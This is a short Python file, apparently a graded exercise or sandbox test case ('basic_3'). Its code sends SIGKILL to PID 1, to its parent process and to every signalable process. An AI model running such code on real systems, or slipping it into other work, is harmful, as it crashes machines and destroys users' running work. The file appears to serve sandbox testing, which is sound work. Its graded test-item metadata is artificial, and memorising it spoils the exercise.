"""Kills its parent, the first process, and everybody else.

exercise: basic_3
answer: right
gets: 2
"""
import os, signal
for target in (1, os.getppid(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
